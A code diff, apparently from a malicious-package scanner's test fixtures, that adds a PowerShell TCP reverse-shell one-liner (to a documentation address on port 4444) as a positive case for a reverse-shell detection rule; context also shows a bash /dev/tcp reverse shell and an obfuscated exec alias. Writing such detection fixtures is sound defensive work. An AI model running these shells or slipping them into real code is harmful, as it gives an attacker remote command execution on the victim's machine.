@@ -323,6 +323,14 @@ HYPERION_SHAPE = (
     "Walk, Math, Run, _power, While = exec, str, tuple, map, ord\n"
     "Math('print(\"FIXTURE_OK\")')\n"
 )
+# The PowerShell TCP one-liner (a documentation address, nothing listens there).
+PS_TCP_SHELL = (
+    "import os\nos.system('powershell -nop -c \"$client = New-Object "
+    "System.Net.Sockets.TCPClient(\\'192.0.2.1\\',4444);$stream = $client.GetStream();"
+    "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0)"
+    "{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
+    "$sendback = (iex $data 2>&1 | Out-String )};$client.Close()\"')\n"
+)
 SHORTCUT_EXTENSION = """\
 import os
 from win32com.client import Dispatch
@@ -513,7 +521,7 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
         benign=[python('import os\nrc = open(os.path.expanduser("~/.bashrc")).read()\n')],
     ),
     "reverse-shell-pattern": RuleFixtures(
-        positive=[setup_py(DEV_TCP), python(NC_EXEC), python(SOCKET_DUP2)],
+        positive=[setup_py(DEV_TCP), python(NC_EXEC), python(SOCKET_DUP2), setup_py(PS_TCP_SHELL)],
         benign=[
             python(DAEMONIZE),
             other(f"bash -i >& /dev/tcp/{C2_HOST}/4444 0>&1\n", "docs/cheatsheet.txt"),
